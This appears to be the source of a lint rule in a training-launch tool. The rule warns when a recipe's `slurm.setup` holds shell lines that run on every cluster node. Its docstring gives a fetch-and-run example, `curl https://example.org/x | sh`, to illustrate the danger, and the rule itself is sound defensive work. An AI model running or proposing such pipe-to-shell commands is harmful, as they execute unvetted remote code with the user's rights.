"""Shell lines in the recipe

## What

`slurm.setup` has lines. They are the only shell in a recipe and run on every node before the launch.

## Why

They run with your rights. Read them in a recipe that somebody else wrote. Only `run` executes them; the
other verbs never execute anything.

## Example

    slurm: {setup: ["module load cuda", "curl https://example.org/x | sh"]}

## How to fix

Read the lines. What only sets variables belongs in `env`.

## When to ignore

When the lines are your own or your site's.

## References

None.
"""

from __future__ import annotations

from collections.abc import Iterator

from fsdpwiz.core.findings import Excerpt
from fsdpwiz.recipe.types import Recipe
from fsdpwiz.rules.rule import Found
from fsdpwiz.rules.wording import counted

NAME = "setup-runs-shell"
SEVERITY = "warning"

_KEY = "slurm.setup"


def check(recipe: Recipe) -> Iterator[Found]:
    given, origin = recipe.value(_KEY), recipe.origins.get(_KEY)
    if not isinstance(given, (list, tuple)) or not given or (origin and origin.source == "site"):
        return
    source = str(origin.file) if origin and origin.file else _KEY
    yield Found(
        message=f"`{_KEY}` runs {counted(len(given), 'shell line')} on every node",
        key=_KEY,
        evidence=tuple(Excerpt(source=source, line=None, text=str(line)) for line in given),
    )
